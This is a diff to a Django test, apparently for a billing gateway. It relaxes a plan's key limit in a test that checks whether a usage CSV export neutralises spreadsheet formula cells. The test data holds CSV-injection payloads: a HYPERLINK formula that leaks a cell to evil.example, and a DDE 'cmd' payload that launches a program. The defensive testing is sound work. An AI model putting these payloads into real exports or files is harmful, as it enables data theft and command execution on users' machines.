@@ -14,6 +14,7 @@ from django.utils.timezone import now
 from accounts.models import ApiKey, User
 from accounts.services import account_for
 from accounts.templatetags.display import usd_fixed
+from billing.models import Plan
 from gateway import usage
 from gateway.models import UsageRecord
 from gateway.pages.usage import TOP_MODELS, chart_data
@@ -221,6 +222,8 @@ def test_the_usage_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
     import io
 
     acct = account_for(alice)
+    # Six named keys: more than the Test plan's active-key cap allows.
+    Plan.objects.filter(pk=acct.plan_id).update(max_keys=None)
     hostile = [
         '=HYPERLINK("http://evil.example/?x="&A1,"click")',
         "+cmd|' /C calc'!A0",
